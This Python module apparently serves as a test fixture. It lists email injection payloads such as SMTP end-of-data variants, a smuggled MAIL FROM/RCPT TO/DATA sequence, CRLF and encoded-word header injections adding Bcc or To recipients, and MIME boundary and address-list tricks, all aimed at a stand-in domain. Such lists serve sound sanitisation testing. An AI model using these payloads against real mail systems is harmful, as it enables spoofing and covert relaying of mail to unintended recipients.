"""What somebody types who wants a mail of their own: ends of texts, headers, encoded words, parts, addresses."""

END_OF_TEXT = [
    "\n.\n",
    "\r.\r",
    "\r\n.\r\n",
    "\n.\r\n",
    "\r\n.\n",
    "\r.\r\n",
    "\r\n.\r",
    "\n\n.\n\n",
    "\x85.\x85",
    "\u2028.\u2028",
]
SMUGGLED = "MAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\nSubject: x\r\n\r\nhi\r\n.\r\n"
PAYLOADS = [
    *(f"Lea{end}{SMUGGLED}" for end in END_OF_TEXT),
    *(f"Lea{end}" for end in END_OF_TEXT[:7]),
    "Lea\r\nBcc: victim@evil.example",
    "Lea\nBcc: victim@evil.example\n\n<b>body</b>",
    "Lea\rTo: victim@evil.example",
    "Lea\x0bBcc: victim@evil.example",
    "Lea\x0cBcc: victim@evil.example",
    "Lea\x1cBcc: victim@evil.example",
    "Lea\x00\r\nBcc: victim@evil.example",
    "=?utf-8?q?Lea=0D=0ABcc:_victim@evil.example?=",
    "Lea\r\n\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n<script>1</script>",
    "=?utf-8?b?TGVhDQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
    "=\u202e?utf-8?q?Lea=0D=0ABcc:_victim@evil.example?=",
    "==??utf-8?q?Lea=0D=0ABcc:_victim@evil.example?=",
    "Lea =?utf-8?q?=0A?= =?utf-8?q?Bcc:_victim@evil.example?=",
    "Lea%0d%0aBcc: victim@evil.example",
    "Léa\r\nContent-Transfer-Encoding: base64",
    "." * 2000 + "\r\n.\r\n",
    "ü" * 3000,
    *(f"Lea{name}: victim@evil.example" for name in ("\r\nCc", "\r\n\tBcc", "\n Resent-Bcc", "\r\nReply-To", "\nFrom")),
    *(
        f"Lea{gap}Bcc: victim@evil.example"
        for gap in ("\x1d", "\x1e", "\u2028", "\u2029", "\x85", "\u0000\n", "\r\r\n")
    ),
    *(f"Lea{end}RSET\r\nMAIL FROM:<e@evil.example>\r\nRCPT TO:<v@evil.example>\r\n" for end in ("\r\n.\r\n", "\n.\n")),
    "Lea\r\n.\r\nQUIT\r\n",
    "Lea\r\nSubject: another\r\nTo: victim@evil.example\r\n\r\nanother body",
    "Lea\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x",
    "Lea\r\nDKIM-Signature: v=1; d=evil.example",
    "Lea, victim@evil.example",
    "Lea <victim@evil.example>",
    "Lea; victim@evil.example",
    '"Lea" <victim@evil.example>, "',
    "=?utf-16?b?AA0ACgBCAGMAYw==?=",
    "=?utf-8?q?=2E?=\r\n.\r\n",
    "\ufeffLea\r\nBcc: victim@evil.example",
    "Lea{{ 7*7 }}{% raw %}\nBcc: victim@evil.example",
]
